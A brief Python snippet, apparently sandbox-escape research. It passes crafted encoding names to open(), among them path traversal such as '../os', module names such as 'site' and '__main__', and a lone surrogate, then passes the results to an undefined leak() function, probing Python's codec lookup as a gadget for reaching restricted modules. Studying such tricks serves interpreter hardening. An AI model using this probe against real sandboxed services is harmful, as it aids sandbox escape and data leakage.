# source: own: the façade of the gates as a gadget
for encoding in ('os', '../os', 'encodings.aliases', 'codecs', 'site', 'rot13', 'bz2', 'mbcs', '.os', 'zlib_codec', '\udcff', '__main__'):
    try:
        f = open('/a.txt', 'r', encoding=encoding)
        leak(f); leak(f.read())
    except (LookupError, ValueError, ImportError):
        pass
